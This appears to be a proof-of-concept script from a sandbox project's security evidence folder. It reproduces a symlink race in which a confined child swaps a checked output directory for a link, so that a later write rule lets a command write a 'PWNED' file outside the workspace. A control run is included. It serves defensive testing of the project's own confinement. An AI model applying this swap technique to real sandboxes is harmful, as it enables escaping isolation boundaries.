"""Tenth probe (issue 38), P10-3: the command's write rule on its runs' directory
(``out/profiles/<mode>/command``) is added by the supervisor with ``O_NOFOLLOW`` on the last component only,
after the server checked the path (``confine._made``). A kernel child, which may write ``out/profiles``,
that replaces ``out/profiles/<mode>`` by a link in between gets the command a write rule on the link's
target's ``command`` directory, outside the workspace. Within one server that needs a kernel job running
beside the command (two GPUs: two slots; the race ran 13,000 flips but the CPU's one device lock kept the
command queued, logs/race_runs_link-root.log), so this reproduction takes the steps one after another: the
server's side (command_confinement), the swap by a process confined by a kernel child's policy, the
supervisor. Prints SUCCEEDED (the command wrote outside) or BLOCKED; and the control without the swap.

Usage (repository root, root or any user): .venv/bin/python docs/evidence/sandbox/probe10/repro_runs_link.py
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

from kprof_mcp import sandbox
from kprof_mcp.protocol import python_argv


def supervise(policy: Path, code: str) -> subprocess.CompletedProcess:
    argv = sandbox.wrap(policy, [sys.executable, "-c", code])
    return subprocess.run(argv, capture_output=True, text=True, timeout=60)


def attempt(swap: bool) -> bool:
    base = Path(tempfile.mkdtemp(prefix="kp10-runslink-"))
    try:
        ws, outside = base / "ws", base / "outside" / "evdir"
        out_root = ws / "out" / "profiles"
        for d in (out_root / "event" / "command", ws / "cmd", outside / "command", base / "req"):
            d.mkdir(parents=True)
        req = {"out_root": str(out_root), "mode": "event", "command_cwd": str(ws / "cmd")}
        conf = sandbox.command_confinement(json.dumps(req), base / "req", ws, None)  # the server's check
        if swap:  # a kernel job's package code, confined by its own policy
            kconf = sandbox.kernel_confinement(sandbox.KernelScope(ws, out_root))
            code = (
                f"import os; p = {str(out_root / 'event')!r}; os.rename(p, p + '.real'); "
                f"os.symlink({str(outside)!r}, p); print('swapped')"
            )
            cp = supervise(kconf.policy_file, code)
            print("kernel child:", cp.stdout.strip(), cp.stderr.strip()[-300:])
        target = outside / "command" / "PWNED"
        code = (
            f"import sys\ntry:\n open({str(target)!r}, 'w').write('x'); print('wrote outside')\n"
            "except OSError as e:\n print('refused', e)"
        )
        cp = supervise(conf.policy_file, code)
        print("command:", cp.stdout.strip(), cp.stderr.strip()[-300:])
        return target.exists()
    finally:
        shutil.rmtree(base, ignore_errors=True)


if __name__ == "__main__":
    print("uid", os.getuid(), "python", python_argv(module="x")[0])
    got = attempt(swap=False)
    print("RESULT control (no swap):", "SUCCEEDED" if got else "BLOCKED")
    got = attempt(swap=True)
    print(
        "RESULT runs_link (out/profiles/event swapped for a link by a kernel child):",
        "SUCCEEDED (the command wrote outside the workspace)" if got else "BLOCKED",
    )
